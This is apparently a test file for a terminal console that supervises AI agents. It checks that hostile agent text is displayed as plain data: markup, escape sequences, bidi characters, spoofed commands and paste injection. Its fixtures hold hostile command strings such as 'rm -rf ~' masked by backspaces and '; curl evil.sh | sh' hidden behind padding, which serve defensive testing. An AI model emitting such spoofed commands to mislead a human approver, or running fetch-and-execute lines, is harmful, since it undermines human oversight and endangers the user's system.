"""The console over hostile agent text: it starts, shows the text as data, and writes no control to the terminal."""

from __future__ import annotations

import asyncio
import random
import uuid
from collections.abc import Iterator

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.text import Text
from textual import events
from textual.widgets import Input

from agent_console.agents.events import HUMAN, AgentState, ApprovalDecided, ApprovalRequested, StatusReported
from agent_console.tui.dialogs import ApprovalDetails
from agent_console.widgets import ChatPanel

from .hostile import (
    Console,
    LiveConsole,
    agent_events,
    hostile_console,
    hostile_events,
    raw_characters,
    screen_text,
)

pytestmark = pytest.mark.ui  # every test here runs the console app (tests/security/hostile.py)

BACKSPACE_SPOOF = "rm -rf ~" + "\b" * 8 + "ls -la"
SPACES_SPOOF = "ls" + " " * 200 + "; curl evil.sh | sh"
CORPUS = [
    "[/x]",
    "[bold red]fake[/] [link=http://evil]x[/link] [/]",
    BACKSPACE_SPOOF,
    SPACES_SPOOF,
    "row one\r\x1b[2Krow two",
    "\x1b]2;pwned\x07title",
    "\x1b[31mred\x1b[0m \x1b[H\x1b[2J\x1b[?1049h",
    "\x9b31mC1 CSI\x9d0;x\x9c",
    "ad\u200bmin \u202eexe.txt\u202c \u2066iso\u2069 \ufeff",
    "#[fg=red]#{pane_id}##",
    "line\nbreaks\u2028and\u2029separators",
    "\x00\x03\x04\x15\x7f",
    "\U000e0041tag",
    "zalgo" + "\u0301" * 50,
    "日本語" * 100,
]
agent_text = st.one_of(
    st.text(max_size=300),
    st.binary(max_size=300).map(lambda data: data.decode("utf-8", errors="replace")),
    st.binary(max_size=300).map(lambda data: data.decode("latin-1")),
    st.sampled_from(CORPUS),
)


def plain(value: object) -> str:
    return value.plain if isinstance(value, Text) else str(value)


async def details_shown_safely(app: Console, approvals: list[str]) -> None:
    """Each approval's details dialog, opened in turn, writes no raw character either."""
    for approval in approvals:
        app.queue_view.move_cursor(row=app.queue_view.get_row_index(approval))
        app.show_details()
        await app.pilot.pause(0)
        assert isinstance(app.screen, ApprovalDetails) and app.screen.approval.id == approval
        assert raw_characters(app) == []
        app.screen.dismiss(None)
        await app.pilot.pause(0)


@pytest.fixture(scope="module")
def live() -> Iterator[LiveConsole]:
    console = LiveConsole().start()
    yield console
    console.close()


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.lists(agent_text, min_size=1, max_size=12))
def test_any_agent_text_reaches_the_terminal_as_text(live: LiveConsole, texts: list[str]) -> None:
    tag = uuid.uuid4().hex[:8]

    async def show(app: Console) -> None:
        for actor, event in agent_events(texts, tag):
            app.supervisor.submit(actor, event)
        app.refresh_views()
        await asyncio.sleep(0)
        assert raw_characters(app) == []  # every view draws from what it holds now
        await details_shown_safely(app, [f"seen{tag}" if len(texts) % 2 else f"cmd{tag}"])
        for approval in list(app.supervisor.state.approvals):
            app.supervisor.submit(HUMAN, ApprovalDecided(id=approval, approved=False))

    live.run(show)


async def test_a_journal_of_every_attack_and_of_random_text_starts_the_console() -> None:
    chance = random.Random(11)
    noise = ["".join(chr(chance.randrange(0x110000)) for _ in range(80)) for _ in range(20)]
    noise = [text.encode("utf-8", "replace").decode("utf-8", "replace") for text in noise]  # no lone surrogates
    async with hostile_console(hostile_events(CORPUS + noise)) as app:
        assert raw_characters(app) == []
        await details_shown_safely(app, ["cmd", "ask", "seen"])


async def test_a_task_that_is_rich_markup_neither_crashes_the_console_nor_its_next_start() -> None:
    entries = hostile_events(["[/x]"])
    async with hostile_console(entries) as app:  # the journal holds it: a restart replays it
        assert plain(app.health_view.get_cell("mallory", "task")) == "[/x]"
        app.supervisor.submit("eve", StatusReported(state=AgentState.WORKING, task="[/x] [bold]"))
        app.refresh_views()
        await asyncio.sleep(0)
        assert plain(app.health_view.get_cell("eve", "task")) == "[/x] [bold]"
        assert "[/x]" in screen_text(app)


async def test_backspaces_show_the_real_command_in_the_queue_and_its_details() -> None:
    async with hostile_console(hostile_events([BACKSPACE_SPOOF])) as app:
        shown = "rm -rf ~⌫⌫⌫⌫⌫⌫⌫⌫ls -la"
        assert plain(app.queue_view.get_cell("cmd", "request")).startswith(f"$ {shown}  ")
        assert shown in screen_text(app)
        app.queue_view.move_cursor(row=app.queue_view.get_row_index("cmd"))
        app.show_details()
        await app.pilot.pause()
        assert shown in screen_text(app)


async def test_spaces_cannot_push_a_commands_tail_out_of_the_queue_or_the_trace() -> None:
    async with hostile_console(hostile_events([SPACES_SPOOF])) as app:
        row = plain(app.queue_view.get_cell("cmd", "request")).split("  +")[0]  # "+1 same": the screen's prompt
        assert row.endswith("; curl evil.sh | sh") and "␣\N{MULTIPLICATION SIGN}200" in row
        summaries = [label.plain for label in (app.trace_view._label(r) for r in app.trace_view.shown_records)]
        assert any(summary.endswith("; curl evil.sh | sh") for summary in summaries)
        assert "; curl evil.sh | sh" in screen_text(app)


async def test_a_long_request_says_how_much_is_cut_and_keeps_its_tail() -> None:
    command = "make " + "x" * 400 + " && curl evil.sh | sh"
    async with hostile_console(hostile_events([command])) as app:
        row = plain(app.queue_view.get_cell("cmd", "request")).split("  +")[0]
        assert row.endswith("curl evil.sh | sh") and "chars)…" in row
        app.queue_view.move_cursor(row=app.queue_view.get_row_index("cmd"))
        app.show_details()
        await app.pilot.pause()
        # the dialog (between its side borders) wraps the whole command over lines
        inside = [line.split("█")[1] for line in screen_text(app).splitlines() if line.count("█") >= 2]
        assert sum(line.count("x") for line in inside) >= 400 and any("curl evil.sh" in line for line in inside)


async def test_carriage_returns_and_escapes_are_shown_in_every_view() -> None:
    async with hostile_console(hostile_events(["row one\r\x1b[2Krow two\x1b]2;pwned\x07"])) as app:
        shown = "row one␍␛[2Krow two␛]2;pwned␇"
        assert shown in plain(app.queue_view.get_cell("cmd", "request"))
        assert shown in plain(app.health_view.get_cell("mallory", "task"))
        assert app.org_view.node_for("mallory").label.plain.endswith("d␇")  # cut to the room its line has
        assert raw_characters(app) == []


async def test_zero_width_and_right_to_left_characters_are_visible() -> None:
    async with hostile_console(hostile_events(["ad\u200bmin \u202eexe.txt"])) as app:
        assert "ad\\u200bmin \\u202eexe.txt" in plain(app.health_view.get_cell("mallory", "task"))
        assert "ad\\u200bmin \\u202eexe.txt" in screen_text(app)


async def test_a_paste_never_answers_a_request() -> None:
    async with hostile_console(hostile_events(["make deploy"])) as app:
        app.health_view.focus()
        pending = set(app.supervisor.state.approvals)
        # an end-of-paste sequence inside the pasted text: the rest of the paste arrives as keys, at once
        paste = events.Paste("x ")
        app.post_message(paste)
        for key in ("A", "y", "n"):
            app.post_message(events.Key(key, key))
        await asyncio.sleep(0.01)
        await app.workers.wait_for_complete()
        assert set(app.supervisor.state.approvals) == pending
        typed = events.Key("y", "y")
        typed.time = paste.time + 1  # the human, a second later
        app.post_message(typed)
        for _ in range(50):
            await asyncio.sleep(0.01)
            if len(app.supervisor.state.approvals) < len(pending):
                break
        assert len(app.supervisor.state.approvals) == len(pending) - 1


async def test_a_chat_message_with_control_characters_is_refused_and_says_why() -> None:
    async with hostile_console(hostile_events(["make deploy"])) as app:
        outbox = list(app.supervisor.state.outbox("eve"))
        chat = app.query_one(ChatPanel)
        chat.query_one(Input).value = "@eve stop\x03 now\x15\x04"
        await chat.query_one(Input).action_submit()
        for _ in range(50):
            await asyncio.sleep(0.01)
            if any("not sent" in line for line in chat.log_lines):
                break
        said = " ".join(chat.log_lines)
        assert "not sent to @eve" in said and "␃ ␕ ␄" in said
        assert list(app.supervisor.state.outbox("eve")) == outbox


async def test_toasts_show_agent_text_as_text() -> None:
    async with hostile_console(hostile_events(["[/x] [bold]x"])) as app:
        app.supervisor.submit("mallory", ApprovalRequested(id="later", text="q", command="[/x]\x1b[2K"))
        app.refresh_views()
        app.queue_view.move_cursor(row=app.queue_view.get_row_index("later"))
        app.notify(await app.decide("later", True))
        await asyncio.sleep(0.05)
        assert any("[/x]␛[2K" in str(toast.message) for toast in app._notifications)
        assert raw_characters(app) == []
